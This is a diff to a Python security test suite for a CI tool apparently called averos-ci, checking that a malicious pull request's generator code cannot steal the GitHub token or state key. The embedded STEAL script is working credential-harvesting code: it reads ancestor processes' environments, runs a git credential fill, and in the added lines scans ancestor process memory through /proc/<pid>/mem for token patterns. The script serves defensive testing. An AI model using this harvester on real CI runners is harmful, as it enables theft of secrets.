@@ -5,9 +5,12 @@ Attack 1 — a PR whose generator code steals the token. The adapter here (``pro
 regenerating adapter installed like any third-party one) runs ``probe/steal.py`` from the
 checked-out pull request before its first node, as the Angular adapter runs the checkout's
 schematics and npm packages. The PR adds that script: it collects its environment, the
-``/proc/<pid>/environ`` of every ancestor, git's credential configuration and a credential
-fill, ``.git/config`` and every file under ``$RUNNER_TEMP``. Run through the plan workflow
-(:meth:`tests.github.gh_world.World.plan_workflow`: plan → patch → complete), it finds
+``/proc/<pid>/environ`` of every ancestor, the *memory* of the averos-ci processes above it
+(``/proc/<pid>/mem``: readable by a same-user child where the kernel allows tracing, as on
+this machine — so a token averos-ci held only in memory would be found), git's credential
+configuration and a credential fill, ``.git/config`` and every file under ``$RUNNER_TEMP``.
+Run through the plan workflow (:meth:`tests.github.gh_world.World.plan_workflow`: plan →
+patch → complete), it finds
 neither the token nor the state key — and the control shows it would find a token that was
 there.
 
@@ -40,7 +43,7 @@ STATE_KEY = "st4te-k3y-SECRET-0123456789"
 STEAL = textwrap.dedent(
     r'''
     """What a malicious pull request's generator code does (run by the probe adapter)."""
-    import json, os, subprocess
+    import json, os, re, subprocess
     from pathlib import Path
 
     found = {"environ": dict(os.environ), "ancestors": [], "files": {}, "git": {}}
@@ -53,6 +56,32 @@ STEAL = textwrap.dedent(
         stat = Path(f"/proc/{pid}/stat").read_text("latin1")
         found["ancestors"].append({"pid": pid, "environ": environ})
         pid = int(stat[stat.rindex(")") + 2 :].split()[1])
+    # the memory of the averos-ci processes above (a same-user child may read it where the
+    # kernel allows tracing, as here): a token held only in memory would be there
+    secret = re.compile(rb"ghs_[A-Za-z0-9]{20,}|st4te-k3y-[A-Za-z0-9-]+")
+    found["memory"] = {}
+    for ancestor in found["ancestors"][1:]:
+        pid = ancestor["pid"]
+        if b"averos_ci" not in Path(f"/proc/{pid}/cmdline").read_bytes():
+            continue
+        hits, scanned = set(), 0
+        try:
+            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
+                for line in maps:
+                    fields = line.split()
+                    start, end = (int(x, 16) for x in fields[0].split("-"))
+                    if "r" not in fields[1] or end - start > 1 << 30:
+                        continue
+                    try:
+                        mem.seek(start)
+                        data = mem.read(end - start)
+                    except (OSError, ValueError, OverflowError):
+                        continue
+                    scanned += len(data)
+                    hits.update(m.decode("latin1") for m in secret.findall(data))
+        except OSError as exc:
+            hits = {f"unreadable: {exc}"}
+        found["memory"][pid] = {"scanned": scanned, "hits": sorted(hits)}
     workspace = Path(os.environ["GITHUB_WORKSPACE"])
 
     def run(*args, stdin=""):
@@ -113,8 +142,10 @@ def test_the_pull_requests_generator_finds_no_token_in_the_patch_job(
     assert wf.patch is not None and wf.patch.code == 0, wf.patch.stdout + wf.patch.stderr
     assert wf.complete is not None and wf.complete.code == 0, wf.complete.stderr
     found = json.loads(loot.read_text(encoding="utf-8"))
-    # the probe did look: its ancestors up to the runner, the checkout's git, the runner folder
+    # the probe did look: its ancestors up to the runner, the memory of averos-ci, the
+    # checkout's git, the runner folder
     assert len(found["ancestors"]) >= 3
+    assert found["memory"] and all(m["scanned"] > 1_000_000 for m in found["memory"].values())
     assert "[remote" in found["git"]["dotgit"]
     assert any(p.endswith("event.json") for p in found["files"])
     dump = json.dumps(found)
@@ -140,11 +171,18 @@ def test_control_the_probe_finds_a_token_its_parent_holds(tmp_path: Path) -> Non
         "RUNNER_TEMP": str(tmp_path),
         "AVEROS_PROBE_OUT": str(out),
     }
-    parent = f"import os, subprocess, sys; os.environ.pop('GITHUB_TOKEN'); subprocess.run([sys.executable, {str(script)!r}], check=True)"  # noqa: E501
-    subprocess.run([sys.executable, "-c", parent], env=env, check=True, timeout=60)
+    # the parent (named like averos-ci) keeps the token in memory, out of its children's env
+    parent = (
+        "import os, subprocess, sys  # averos_ci\n"
+        "held = os.environ.pop('GITHUB_TOKEN')\n"
+        f"subprocess.run([sys.executable, {str(script)!r}], check=True)\n"
+    )
+    subprocess.run([sys.executable, "-c", parent], env=env, check=True, timeout=120)
     found = json.loads(out.read_text(encoding="utf-8"))
     assert TOKEN not in json.dumps(found["environ"])  # scrubbed from the child's environment
     assert TOKEN in json.dumps(found["ancestors"])  # but the parent's /proc/<pid>/environ has it
+    [memory] = found["memory"].values()
+    assert TOKEN in memory["hits"]  # and its memory
 
 
 def test_the_patch_command_refuses_to_run_with_a_token(tmp_path: Path, fake: FakeGitHub) -> None:
